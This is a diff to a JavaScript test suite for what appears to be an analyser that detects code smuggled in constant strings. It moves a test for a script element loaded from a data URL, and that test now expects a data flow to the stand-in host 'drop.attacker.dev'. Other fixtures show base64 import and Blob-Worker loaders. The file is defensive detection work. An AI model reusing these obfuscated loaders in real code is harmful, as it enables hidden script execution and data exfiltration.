@@ -71,10 +71,6 @@ describe('code in a constant text', () => {
     ],
     ['of the address of a script', `import('data:text/javascript;base64,${base64}')`],
     [
-      'of the address of an element',
-      `const s = document.createElement('script'); s.src = 'data:application/javascript,' + "${encodeURIComponent(thief)}"; document.head.append(s);`,
-    ],
-    [
       'of a blob',
       `const b = new Blob([atob('${base64}')], { type: 'text/javascript' }); new Worker(URL.createObjectURL(b));`,
     ],
@@ -100,6 +96,16 @@ describe('code in a constant text', () => {
       assert.deepEqual(facts.skipped, []);
     });
   }
+
+  it("that is a script element's address counts too", () => {
+    const facts = factsOf(
+      `const s = document.createElement('script'); s.src = 'data:application/javascript,' + "${encodeURIComponent(thief)}"; document.head.append(s);`,
+    );
+    assert.deepEqual(
+      facts.flows.map(({ host }) => host),
+      ['drop.attacker.dev'],
+    );
+  });
 
   it('stands at the place of what runs it', () => {
     const [use] = factsOf(`\n\n   eval(${JSON.stringify(`\n\n${thief}`)})`).usesOf(
